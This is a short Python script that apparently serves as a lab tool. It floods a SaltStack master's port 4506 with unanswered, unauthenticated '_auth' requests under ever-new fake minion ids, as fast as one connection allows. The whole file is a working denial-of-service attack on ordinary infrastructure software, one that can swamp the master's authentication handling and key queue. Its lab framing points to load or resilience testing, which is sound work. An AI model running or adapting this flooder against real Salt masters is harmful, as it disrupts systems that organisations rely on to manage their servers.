"""
Knocks at a master as fast as one connection takes it, without waiting for answers.

It is run on a node of the lab: ``python flooder.py ADDRESS``, until its input is closed; prints how
many knocks were sent, and how many were answered.
"""

import sys
import uuid

import salt.crypt
import salt.payload
import zmq

_, public = salt.crypt.gen_keys(2048)
knocks = zmq.Context().socket(zmq.DEALER)
knocks.linger = 0
knocks.connect(f"tcp://{sys.argv[1]}:4506")
poller = zmq.Poller()
poller.register(knocks, zmq.POLLIN | zmq.POLLOUT)
poller.register(sys.stdin.fileno(), zmq.POLLIN)
sent = answered = 0
while sys.stdin.fileno() not in (found := dict(poller.poll())):
    ready = found[knocks]
    if ready & zmq.POLLIN:
        knocks.recv_multipart()
        answered += 1
    if ready & zmq.POLLOUT:
        load = {
            "cmd": "_auth",
            "id": f"flood-{sent}",
            "pub": public,
            "nonce": uuid.uuid4().hex,
            "enc_algo": "OAEP-SHA1",
            "sig_algo": "PKCS1v15-SHA1",
        }
        request = {"enc": "clear", "load": load, "version": 3}
        knocks.send_multipart([b"", salt.payload.dumps(request)])
        sent += 1
print(sent, answered)
